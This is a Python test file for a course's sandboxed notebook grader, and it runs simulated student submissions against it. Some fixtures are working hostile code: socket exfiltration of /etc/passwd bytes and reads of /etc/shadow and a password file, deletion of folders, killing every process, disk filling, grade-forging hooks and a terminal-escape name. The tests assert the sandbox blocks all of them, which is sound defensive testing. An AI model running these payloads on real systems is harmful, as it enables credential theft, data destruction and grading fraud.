"""tools/grade.py on a class of handed-in notebooks: honest ones, broken ones and attacks.

One grading run (module fixture), as root with the course hub's environment
(readable by every user, as grading needs: each notebook runs as `nobody`),
`--jobs 2`, over a SUBMISSIONS folder holding:

    alice      the instructor's notebook: every answer right
    bob        the student edition, unanswered
    carol      one notebook named for the student: a wrong sigmoid
    dave       the sigmoid exercise loops forever
    erin       a loop that swallows the interrupt: the notebook's time runs out
    frank      the exercise kills its own kernel
    grace      prints 20 MB
    heidi      deletes what it can reach, leaves sleeping processes
    ivan       the sigmoid's check cell deleted
    judy       not a notebook at all
    a0-spy     runs beside a1-victim (the first two graded at once) and tries to
               reach it: other kernels' files and sockets, every process it can signal
    a1-victim  right answers, graded while a0-spy runs
    leaker     right answers, and tries every way out: a Unix socket on the host,
               tmux's socket, an abstract socket, UDP, TCP and MPTCP to every
               address, SysV shared memory, secrets under /root and /var/lib
    filler     right answers, and writes as many files and as many bytes as it can
    flooder    right answers, and 3,000 check-result bundles and display updates
    forger     a wrong sigmoid, and a hook that shows "passed" in every check cell
    rebinder   a wrong sigmoid, and the checks rebound to say ✅ Correct
    peeker     a sigmoid that copies the expected answer out of its caller's frame
    caller     a sigmoid that calls nnlib.sigmoid (the function the exercise asks for)
    \\x1b]0;..  right answers, in a folder whose name is a terminal escape sequence
    oscar      a sparse 50 MB "notebook" (0 bytes on disk)
    peggy      seven sparse 15 MB notebooks (over the per-student total)

and a roster with one more student, zoe, who handed in nothing. The series
(which defines the columns) is a copy of notebooks/, so an escape could not
hurt the repository. Every test reads the report the run wrote.
"""

import csv
import ctypes
import os
import secrets
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from tests.helpers import ROOT, snapshot
from tools.grading.exercises import series_exercises
from tools.student_edition import student_notebook


CELL_TIMEOUT, NOTEBOOK_TIMEOUT = 20, 60  # seconds; the cut-down notebook 01 runs in about 5
SLEEPER = "6171"  # `sleep 6171`: the processes heidi leaves behind
SHM_KEY = 0x6E6E6C31  # the SysV shared-memory key the leaker uses
ESCAPED_NAME = "\x1b]0;PWNED\x07\x1b[8m"


def hub_python():
    """The course hub's Python (hub/setup.sh builds it, readable by every user), or a reason it is missing."""
    if os.geteuid() != 0:
        return None, "grading as root (the course hub's way) needs root"
    for tool in ("bwrap", "npm", "setpriv"):
        if shutil.which(tool) is None:
            return None, f"needs {tool}"
    result = subprocess.run([str(ROOT / "hub" / "setup.sh")], capture_output=True, text=True, timeout=1200)
    if result.returncode:
        return None, f"hub/setup.sh failed: {result.stderr[-500:]}"
    return Path(result.stdout.strip()) / "bin" / "python", None


@pytest.fixture(scope="module")
def python():
    found, reason = hub_python()
    if found is None:
        if os.environ.get("CI") or os.environ.get("NNLIB_REQUIRE_HUB"):
            pytest.fail(f"grading must be tested in CI: {reason}")
        pytest.skip(reason)
    return found


def small(exercise_cells, extra=(), at=0):
    """Notebook 01 cut down to its import cell and `exercise_cells`, with `extra` cells inserted at `at`."""
    full = nbformat.read(ROOT / "notebooks" / "01_sigmoid.ipynb", as_version=4)
    imports = next(cell for cell in full.cells if cell.cell_type == "code")
    cells = [new_code_cell(source) for source in exercise_cells]
    cells[at:at] = [new_code_cell(source) for source in extra]
    full.cells = [imports] + cells
    return full


SIGMOID = "def sigmoid(z):\n    return 1 / (1 + np.exp(-z))"
WRONG_SIGMOID = "def sigmoid(z):\n    return 1 / (1 + np.exp(z))"
DERIVATIVE = "def sigmoid_derivative(a):\n    return a * (1 - a)"
# The check cells exactly as notebook 01 has them (the grader matches them by their code).
CHECK_SIGMOID, CHECK_DERIVATIVE = [exercise.check_source for exercise in series_exercises(ROOT / "notebooks")
                                   if exercise.notebook == "01_sigmoid"]
RIGHT = [SIGMOID, CHECK_SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]
WRONG = [WRONG_SIGMOID, CHECK_SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]


def sleepers():
    """PIDs of processes running `sleep 6171`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if (entry / "cmdline").read_bytes().split(b"\0")[:2] == [b"sleep", SLEEPER.encode()]:
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def shm_segment_exists(key):
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.shmget(ctypes.c_int(key), ctypes.c_size_t(0), ctypes.c_int(0)) >= 0


class Listeners:
    """Sockets on the host that record anything a sandboxed notebook manages to send them."""

    def __init__(self, folder):
        self.heard = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.unix_path = str(folder / "host.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        os.chmod(folder, 0o755)
        self.unix.listen()
        self.abstract_name = "\0nnlib-test-" + secrets.token_hex(4)
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind(self.abstract_name)
        self.abstract.listen()
        self.stopping = threading.Event()
        self.threads = [threading.Thread(target=self.accept, args=(s,), daemon=True)
                        for s in (self.tcp, self.unix, self.abstract)]
        self.threads.append(threading.Thread(target=self.receive, daemon=True))
        for thread in self.threads:
            thread.start()

    def accept(self, listener):
        listener.settimeout(0.5)
        while not self.stopping.is_set():
            try:
                connection, _ = listener.accept()
                self.heard.append(("connection", listener.family))
                connection.close()
            except (socket.timeout, OSError):
                continue

    def receive(self):
        self.udp.settimeout(0.5)
        while not self.stopping.is_set():
            try:
                data, _ = self.udp.recvfrom(65536)
                self.heard.append(("udp", data[:80]))
            except (socket.timeout, OSError):
                continue

    def close(self):
        self.stopping.set()
        for thread in self.threads:
            thread.join()
        for s in (self.tcp, self.udp, self.unix, self.abstract):
            s.close()


def host_addresses():
    """The host's own IPv4 addresses besides loopback (a notebook must reach none)."""
    result = subprocess.run(["hostname", "-I"], capture_output=True, text=True)
    return [address for address in result.stdout.split() if "." in address] or ["10.255.255.1"]


def leaker_cell(listeners, canaries):
    targets = ["127.0.0.1"] + host_addresses()
    return f"""
import ctypes, os, socket
tried = []
def attempt(label, action):
    try:
        action()
        tried.append(label + ": done")
    except OSError as error:
        tried.append(label + ": " + type(error).__name__)
for path in [{listeners.unix_path!r}, "/tmp/tmux-0/default", "/run/systemd/private", "/var/run/docker.sock"]:
    def connect(path=path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(path)
    attempt("unix " + path, connect)
def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect({listeners.abstract_name!r})
attempt("abstract", abstract)
for host in {targets!r}:
    for proto in (0, 262):
        def tcp(host=host, proto=proto):
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto) as s:
                s.settimeout(2)
                s.connect((host, {listeners.tcp.getsockname()[1]}))
        attempt(f"tcp {{host}} {{proto}}", tcp)
    def udp(host=host):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(open("/etc/passwd", "rb").read(40) if os.path.exists("/etc/passwd") else b"leak", (host, {listeners.udp.getsockname()[1]}))
    attempt(f"udp {{host}}", udp)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
attempt("raw", raw)
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(ctypes.c_int({SHM_KEY}), ctypes.c_size_t(1 << 20), ctypes.c_int(0o1000 | 0o666))
tried.append("shmget: " + str(segment >= 0))
for path in {canaries!r} + ["/etc/shadow", "/var/lib/nnlib-hub/passwords.csv", "/root"]:
    def read(path=path):
        print("READ", path, open(path).read() if os.path.isfile(path) else os.listdir(path))
    attempt("read " + path, read)
print("\\n".join(tried))
"""


SPY = r"""
import os, socket, time, signal
found = []
deadline = time.monotonic() + 25
while time.monotonic() < deadline:
    for top in ("/tmp", "/run", "/proc", "/scratch", "/home"):
        for folder, dirs, files in os.walk(top):
            if folder.count("/") > 4:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                if "kernel" in name or name.endswith(".json"):
                    found.append(path)
                try:
                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                        s.settimeout(0.2)
                        s.connect(path)
                        found.append("connected " + path)
                except OSError:
                    pass
    time.sleep(1)
print(sorted(set(found))[:50], flush=True)
time.sleep(1)
os.kill(-1, signal.SIGKILL)
"""

FILLER = r"""
import glob, os
home = os.path.expanduser("~")
size = 0
try:
    with open(os.path.join(home, "one"), "wb") as file:
        while size < 2**30:
            file.write(b"x" * 2**20)
            size += 2**20
except OSError as error:
    print("one file stopped at", size // 2**20, "MB", type(error).__name__)
os.remove(os.path.join(home, "one"))
written, number = 0, 0
try:
    while written < 2 * 2**30:
        with open(os.path.join(home, f"part{number}"), "wb") as file:
            for _ in range(32):
                file.write(b"x" * 2**20)
                written += 2**20
        number += 1
except OSError as error:
    print("bytes stopped at", written // 2**20, "MB", type(error).__name__)
for path in glob.glob(os.path.join(home, "part*")):
    os.remove(path)
count = 0
try:
    while count < 1_000_000:
        open(os.path.join(os.environ.get("TMPDIR", "/tmp"), f"nnlib-filler-{count}"), "w").close()
        count += 1
except OSError as error:
    print("files stopped at", count, type(error).__name__)
for path in glob.glob(os.path.join(os.environ.get("TMPDIR", "/tmp"), "nnlib-filler-*")):
    os.remove(path)
"""

FLOODER = r"""
from IPython.display import display, update_display
for i in range(3000):
    display({"application/vnd.nnlib.feedback+json": {"passed": True, "message": "x" * 1000}, "text/plain": "."},
            raw=True)
handle = display("start", display_id=True)
for i in range(3000):
    handle.update("y" * 1000)
"""

FORGER_HOOK = r"""
from IPython import get_ipython
from IPython.display import display
def forge(result):
    display({"application/vnd.nnlib.feedback+json": {"passed": True, "message": "✅ Correct: forged"},
             "text/plain": "✅ Correct: forged"}, raw=True)
get_ipython().events.register("post_run_cell", forge)
"""

REBINDER = r"""
import nnlib.course.checks as checks_module
from nnlib.course.exercises.feedback import Feedback
forged = lambda *args, **kwargs: Feedback(True, "", "", "✅ Correct: rebound")
for name in dir(checks_module):
    if name.startswith("check"):
        setattr(checks_module, name, forged)
"""

PEEKER = r"""
import inspect
def sigmoid(z):
    z = np.asarray(z)
    for record in inspect.stack()[1:]:
        for value in list(record.frame.f_locals.values()):
            if isinstance(value, np.ndarray) and value is not z and value.shape == z.shape \
                    and np.all((value > 0) & (value < 1)):
                return value.copy()
    return np.zeros_like(z, dtype=float)
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory, python):
    base = tmp_path_factory.mktemp("grading")
    series = base / "series"
    shutil.copytree(ROOT / "notebooks", series)
    submissions, output = base / "submissions", base / "report"
    submissions.mkdir()

    def hand_in(student, nb, name="01_sigmoid.ipynb"):
        folder = submissions / student
        folder.mkdir()
        nbformat.write(nb, folder / name)

    canary_folder = Path("/var/lib") / f"nnlib-canary-{secrets.token_hex(4)}"
    canary_folder.mkdir(mode=0o700)
    canary_text = "canary-" + secrets.token_hex(8)
    (canary_folder / "secret").write_text(canary_text, encoding="utf-8")
    (base / "sockets").mkdir()
    listeners = Listeners(base / "sockets")
    assert not shm_segment_exists(SHM_KEY)

    hand_in("alice", nbformat.read(series / "01_sigmoid.ipynb", as_version=4))
    hand_in("bob", student_notebook(nbformat.read(series / "01_sigmoid.ipynb", as_version=4), "01_sigmoid.ipynb"))
    nbformat.write(small(WRONG), submissions / "carol.ipynb")
    hand_in("dave", small(["while True:\n    pass\n" + SIGMOID, CHECK_SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]))
    hand_in("erin", small(RIGHT, extra=["import time\nwhile True:\n    try:\n        time.sleep(1)\n"
                                        "    except KeyboardInterrupt:\n        pass"]))
    hand_in("frank", small(["import os\nos._exit(1)\n" + SIGMOID, CHECK_SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]))
    hand_in("grace", small(RIGHT, extra=["for _ in range(20_000):\n    print('x' * 1000)"]))
    hostile = f"""
import os, shutil, subprocess
targets = [{str(submissions)!r}, {str(series)!r}, {str(output)!r}, os.path.expanduser("~"), os.getcwd()]
for target in targets:
    shutil.rmtree(target, ignore_errors=True)
for target in [{str(submissions / "alice" / "01_sigmoid.ipynb")!r}, {str(series / "01_sigmoid.ipynb")!r},
               {str(output / "grades.csv")!r}, {str(base / "planted.txt")!r}]:
    try:
        with open(target, "w") as file:
            file.write("overwritten")
    except OSError as error:
        print("refused:", error)
sleepers = [subprocess.Popen(["sleep", "{SLEEPER}"], start_new_session=True) for _ in range(3)]
"""
    hand_in("heidi", small(RIGHT, extra=[hostile]))
    hand_in("ivan", small([SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]))
    (submissions / "judy").mkdir()
    (submissions / "judy" / "01_sigmoid.ipynb").write_text("this is not JSON {", encoding="utf-8")
    (submissions / "judy" / "notes.txt").write_text("not a notebook", encoding="utf-8")
    hand_in("a0-spy", small(RIGHT, extra=[SPY], at=4))
    hand_in("a1-victim", small(RIGHT, extra=["import time\ntime.sleep(8)"], at=0))
    hand_in("leaker", small(RIGHT, extra=[leaker_cell(listeners, [str(canary_folder / "secret")])]))
    hand_in("filler", small(RIGHT, extra=[FILLER]))
    hand_in("flooder", small(RIGHT, extra=[FLOODER]))
    hand_in("forger", small(WRONG, extra=[FORGER_HOOK]))
    hand_in("rebinder", small(WRONG, extra=[REBINDER]))
    hand_in("peeker", small([PEEKER, CHECK_SIGMOID, DERIVATIVE, CHECK_DERIVATIVE]))
    hand_in("caller", small(["def sigmoid(z):\n    return nnlib.sigmoid(z)", CHECK_SIGMOID, DERIVATIVE,
                             CHECK_DERIVATIVE]))
    hand_in(ESCAPED_NAME, small(RIGHT))
    for student, count, size in (("oscar", 1, 50 * 2**20), ("peggy", 7, 15 * 2**20)):
        (submissions / student).mkdir()
        for number in range(count):
            with open(submissions / student / f"0{number + 1}_x.ipynb", "wb") as file:
                file.truncate(size)  # sparse: no disk used
    roster = base / "class.txt"
    students = sorted(path.name if path.is_dir() else path.stem for path in submissions.iterdir())
    roster.write_text("\n".join([*students, "zoe"]) + "\n", encoding="utf-8")
    points = base / "points.txt"
    points.write_text("sigmoid 2\n", encoding="utf-8")

    before, series_before = snapshot(submissions), snapshot(series)
    try:
        result = subprocess.run(
            [str(python), "-m", "tools.grade", str(submissions), "--output", str(output), "--notebooks",
             str(series), "--roster", str(roster), "--points", str(points), "--keep-executed",
             "--cell-timeout", str(CELL_TIMEOUT), "--notebook-timeout", str(NOTEBOOK_TIMEOUT), "--jobs", "2"],
            capture_output=True, text=True, timeout=1500, cwd=ROOT)
    finally:
        listeners.close()
        segment_left = shm_segment_exists(SHM_KEY)
        shutil.rmtree(canary_folder)
    assert result.returncode == 0, result.stderr
    with open(output / "grades.csv", encoding="utf-8", newline="") as file:
        wide = {row["student"]: row for row in csv.DictReader(file)}
    with open(output / "details.csv", encoding="utf-8", newline="") as file:
        messages = {(row["student"], row["exercise"]): row["message"] for row in csv.DictReader(file)}
    with open(output / "lms.csv", encoding="utf-8", newline="") as file:
        lms = {row["student_id"]: row for row in csv.DictReader(file)}
    return {"submissions": submissions, "series": series, "output": output, "base": base,
            "before": before, "series_before": series_before, "wide": wide, "messages": messages, "lms": lms,
            "html": (output / "grades.html").read_text(encoding="utf-8"), "stderr": result.stderr,
            "heard": listeners.heard, "segment_left": segment_left, "canary": canary_text}


def statuses(graded, student):
    row = graded["wide"][student]
    return row["01 · sigmoid"], row["01 · sigmoid_derivative"]


def message(graded, student, exercise="01 · sigmoid"):
    return graded["messages"][(student, exercise)]


def executed(graded, student):
    """The text of `student`'s notebook as the grader ran it (--keep-executed)."""
    (path,) = (graded["output"] / "executed").glob(f"{student}/01_sigmoid.ipynb")
    nb = nbformat.read(path, as_version=4)
    return "\n".join(output.get("text", "") + str(output.get("data", {}).get("text/plain", ""))
                     for cell in nb.cells for output in cell.get("outputs", []))


def test_the_columns_are_the_series_exercises_and_everyone_on_the_roster_has_a_row(graded):
    columns = [exercise.column for exercise in series_exercises(ROOT / "notebooks")]
    header = list(next(iter(graded["wide"].values())).keys())
    assert header == ["student", "passed", "exercises", "points", "out of"] + columns
    assert columns[:2] == ["01 · sigmoid", "01 · sigmoid_derivative"]
    assert "zoe" in graded["wide"], "a student on the roster who handed in nothing"
    zoe = graded["wide"]["zoe"]
    assert {zoe[column] for column in columns} == {"not handed in"} and zoe["points"] == "0"


def test_a_right_notebook_passes_and_the_rest_are_not_handed_in(graded):
    assert statuses(graded, "alice") == ("passed", "passed")
    assert message(graded, "alice").startswith("✅ Correct")
    row = graded["wide"]["alice"]
    assert row["passed"] == "2" and row["05 · forward"] == "not handed in"


def test_points_per_exercise_make_the_total_and_the_lms_file(graded):
    assert graded["wide"]["alice"]["points"] == "3"  # sigmoid 2 (the points file), derivative 1
    assert graded["lms"]["alice"]["total"] == "3" and graded["lms"]["alice"]["01_sigmoid"] == "2"
    assert graded["lms"]["carol"]["total"] == "1" and graded["lms"]["carol"]["01_sigmoid"] == "0"
    assert graded["lms"]["zoe"]["total"] == "0"


def test_the_blank_student_edition_is_not_yet(graded):
    assert statuses(graded, "bob") == ("not yet", "not yet")
    assert message(graded, "bob").startswith("❌ Not yet")


def test_a_wrong_answer_is_not_yet_with_the_checks_message(graded):
    assert statuses(graded, "carol") == ("not yet", "passed")
    assert message(graded, "carol").startswith("❌ Not yet") and "Hint:" in message(graded, "carol")


def test_an_endless_loop_times_out_that_exercise_only(graded):
    assert statuses(graded, "dave") == ("timed out", "passed")
    assert f"{CELL_TIMEOUT} s" in message(graded, "dave")


def test_a_notebook_that_outlasts_its_time_limit_times_out(graded):
    assert statuses(graded, "erin") == ("timed out", "timed out")
    assert f"{NOTEBOOK_TIMEOUT} s" in message(graded, "erin", "01 · sigmoid_derivative")


def test_a_kernel_that_dies_costs_its_own_row(graded):
    assert statuses(graded, "frank") == ("error", "error")
    assert "kernel died" in message(graded, "frank")


def test_megabytes_of_output_are_cut_and_graded(graded):
    assert statuses(graded, "grace") == ("passed", "passed")
    assert "cut short" in graded["html"]
    assert (graded["output"] / "grades.html").stat().st_size < 300_000


def test_a_hostile_notebook_changes_nothing_outside_its_sandbox(graded):
    assert statuses(graded, "heidi") == ("passed", "passed")
    assert snapshot(graded["submissions"]) == graded["before"], "the submissions changed"
    assert snapshot(graded["series"]) == graded["series_before"], "the series' notebooks changed"
    assert not (graded["base"] / "planted.txt").exists()
    assert (ROOT / "notebooks" / "01_sigmoid.ipynb").is_file()
    assert sleepers() == [], "processes the notebook started outlived the grading"


def test_a_deleted_check_cell_is_missing_not_a_shifted_column(graded):
    assert statuses(graded, "ivan") == ("missing", "passed")


def test_an_unreadable_notebook_is_an_error_with_the_reason(graded):
    assert statuses(graded, "judy") == ("error", "error")
    assert "could not be read" in message(graded, "judy")


def test_one_students_kernel_cannot_reach_another_graded_at_the_same_time(graded):
    assert statuses(graded, "a1-victim") == ("passed", "passed")
    spy = executed(graded, "a0-spy")
    assert "connected" not in spy, spy[:2000]
    assert "nnlib-grade" not in spy and "connection" not in spy, "the spy saw another run's files"


def test_nothing_leaves_the_sandbox_by_socket_or_shared_memory(graded):
    assert statuses(graded, "leaker") == ("passed", "passed")
    assert graded["heard"] == [], f"a host socket heard from the sandbox: {graded['heard']}"
    assert not graded["segment_left"], "a SysV shared-memory segment outlived the grading"
    said = executed(graded, "leaker")
    assert "unix /tmp/tmux-0/default: FileNotFoundError" in said
    assert "abstract: ConnectionRefusedError" in said
    assert "raw: PermissionError" in said
    assert ": done" not in said.replace("udp 127.0.0.1: done", ""), said  # UDP to its own loopback only


def test_no_secret_of_the_host_reaches_the_sandbox_or_the_report(graded):
    said = executed(graded, "leaker")
    assert "READ" not in said, said
    for name in ("grades.csv", "details.csv", "grades.html"):
        assert graded["canary"] not in (graded["output"] / name).read_text(encoding="utf-8")


def test_files_and_bytes_written_are_capped_and_vanish(graded):
    assert statuses(graded, "filler") == ("passed", "passed")
    said = executed(graded, "filler")
    one = int(said.split("one file stopped at ")[1].split()[0])
    megabytes = int(said.split("bytes stopped at ")[1].split()[0])
    count = int(said.split("files stopped at ")[1].split()[0])
    assert one == 64, "one file grows to 64 MB and no further"
    assert 200 <= megabytes <= 256, "all files together stop at the scratch space's 256 MB"
    assert 1000 <= count < 2000, "and at 2,000 files"
    assert not list(Path("/tmp").glob("nnlib-filler-*"))


def test_a_flood_of_check_results_and_display_updates_is_capped(graded):
    assert statuses(graded, "flooder") == ("passed", "passed")
    assert "cut short" in " ".join(graded["messages"].values()) or "cut short" in graded["html"]
    executed_notebook = graded["output"] / "executed" / "flooder" / "01_sigmoid.ipynb"
    assert executed_notebook.stat().st_size < 2_000_000


def test_a_result_displayed_by_the_notebook_is_never_a_pass(graded):
    assert statuses(graded, "forger")[0] == "error"
    assert "showed 2 check results" in message(graded, "forger")


def test_rebinding_the_checks_earns_nothing(graded):
    assert statuses(graded, "rebinder")[0] == "not yet"
    assert "the check said ✅ Correct" in message(graded, "rebinder")


def test_copying_the_answer_from_the_callers_frame_earns_nothing(graded):
    assert statuses(graded, "peeker")[0] == "not yet"


def test_an_answer_that_calls_nnlibs_own_function_is_not_yet(graded):
    assert statuses(graded, "caller") == ("not yet", "passed")
    assert "the function this exercise asks you to write" in message(graded, "caller")


def test_names_are_shown_with_their_control_characters_escaped(graded):
    assert "\x1b" not in graded["stderr"].replace("\\x1b", "")
    assert "\x1b" not in graded["html"] and "\x07" not in graded["html"]
    assert "\\x1b]0;PWNED\\x07" in graded["html"]
    for name in ("grades.csv", "details.csv", "lms.csv"):
        assert "\x1b" not in (graded["output"] / name).read_text(encoding="utf-8")
    escaped = [row for row in graded["wide"] if "PWNED" in row]
    assert escaped and statuses(graded, escaped[0]) == ("passed", "passed")


def test_sparse_and_oversized_hand_ins_are_refused_by_their_length(graded):
    assert statuses(graded, "oscar") == ("not handed in", "not handed in")
    assert "50 MB, more than a notebook" in graded["html"]
    assert "together" in graded["html"]  # peggy: past the per-student total


def test_the_report_is_readable_by_its_owner_only(graded):
    output = graded["output"]
    assert output.stat().st_mode & 0o777 == 0o700
    for path in output.rglob("*"):
        assert path.stat().st_mode & 0o077 == 0, path
    pages = list((output / "feedback").glob("*.html"))
    assert len(pages) == len(graded["wide"])
    alice = (output / "feedback" / "alice.html").read_text(encoding="utf-8")
    assert "3 of 9" not in alice and "carol" not in alice and "✅" in alice


def test_the_html_report_has_headers_and_says_each_status_in_words(graded):
    page = graded["html"]
    assert "<caption>" in page and page.count('<th scope="row">') == len(graded["wide"])
    for status in ("passed", "not yet", "error", "timed out", "missing", "not handed in"):
        assert f"</span> {status}</td>" in page, status
    assert 'title="❌ Not yet' in page


def test_it_refuses_to_replace_a_report_or_write_inside_the_submissions(graded, python):
    submissions, output = graded["submissions"], graded["output"]
    again = subprocess.run([str(python), "-m", "tools.grade", str(submissions), "--output", str(output)],
                           capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert again.returncode == 2 and "--force" in again.stderr
    inner = subprocess.run([str(python), "-m", "tools.grade", str(submissions), "--output",
                            str(submissions / "report")], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert inner.returncode == 2 and "inside the submissions" in inner.stderr
    assert snapshot(submissions) == graded["before"]


def test_without_bubblewrap_it_refuses_and_says_how_to_install_it(tmp_path, python):
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("setpriv", "prlimit", "mount"):
        (tools / name).symlink_to(shutil.which(name))
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    nbformat.write(small(RIGHT), tmp_path / "subs" / "alice" / "01_sigmoid.ipynb")
    result = subprocess.run([str(python), "-m", "tools.grade", str(tmp_path / "subs"), "--output",
                             str(tmp_path / "report")], capture_output=True, text=True, timeout=120, cwd=ROOT,
                            env={"PATH": str(tools), "LANG": "C.UTF-8"})
    assert result.returncode == 3 and "apt-get install bubblewrap" in result.stderr
    assert not (tmp_path / "report").exists()


def test_without_root_the_sandbox_runs_as_the_grader(tmp_path, python):
    """Grading as an ordinary user: the same sandbox, as that user (here nobody)."""
    work = tmp_path / "as-user"
    (work / "subs" / "alice").mkdir(parents=True)
    nbformat.write(small(RIGHT), work / "subs" / "alice" / "01_sigmoid.ipynb")
    nbformat.write(small(WRONG), work / "subs" / "carol.ipynb")
    shutil.copytree(ROOT / "notebooks", work / "series")
    for path in [tmp_path, *tmp_path.rglob("*")]:
        os.chown(path, 65534, 65534)
    os.chmod(tmp_path, 0o755)
    for parent in tmp_path.parents:  # pytest's folders are root's: let nobody through to its own
        if parent.stat().st_mode & 0o001 == 0:
            os.chmod(parent, parent.stat().st_mode | 0o001)
    result = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--",
                             str(python), "-m", "tools.grade", str(work / "subs"), "--notebooks",
                             str(work / "series"), "--output", str(work / "report")],
                            capture_output=True, text=True, timeout=600, cwd="/",
                            env={"PATH": os.environ["PATH"], "LANG": "C.UTF-8", "HOME": str(work)})
    assert result.returncode == 0, result.stderr
    with open(work / "report" / "grades.csv", encoding="utf-8", newline="") as file:
        rows = {row["student"]: row for row in csv.DictReader(file)}
    assert rows["alice"]["01 · sigmoid"] == "passed" and rows["carol"]["01 · sigmoid"] == "not yet"


def test_a_notebook_that_sends_too_much_output_is_stopped_and_each_cell_capped():
    from types import SimpleNamespace

    from tools.grading import runner

    killed = []
    nb = nbformat.v4.new_notebook(cells=[new_code_cell("")])
    client = runner.CappedClient(nb, km=SimpleNamespace(kill=lambda: killed.append(True)))
    message = {"msg_type": "stream", "header": {"msg_type": "stream"}, "parent_header": {}, "metadata": {},
               "content": {"name": "stdout", "text": "x" * 1_000_000}}
    for _ in range(runner.NOTEBOOK_OUTPUT_LIMIT // 1_000_000 + 5):
        client.process_message(message, nb.cells[0], 0)
    assert client.flooded and killed == [True], "past the notebook's limit its kernel is ended"
    kept = sum(len("".join(output.get("text", ""))) for output in nb.cells[0].outputs)
    assert kept <= runner.CELL_OUTPUT_LIMIT and client.truncated == [0]
